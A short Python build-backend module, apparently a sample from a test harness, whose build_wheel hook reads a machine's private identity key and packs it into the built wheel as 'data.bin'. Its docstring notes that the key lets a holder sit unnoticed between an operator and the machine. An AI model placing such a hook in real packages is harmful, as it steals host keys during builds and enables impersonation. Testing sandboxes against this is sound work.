"""Reads the private key by which the machine proves that it is itself.

Who has it can stand between an operator and the machine, and nobody notices.
"""

import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-key"):
        loot["data.bin"] = pathlib.Path(kit.plant("key").path).read_bytes()
    return kit.wheel(wheel_directory, loot)
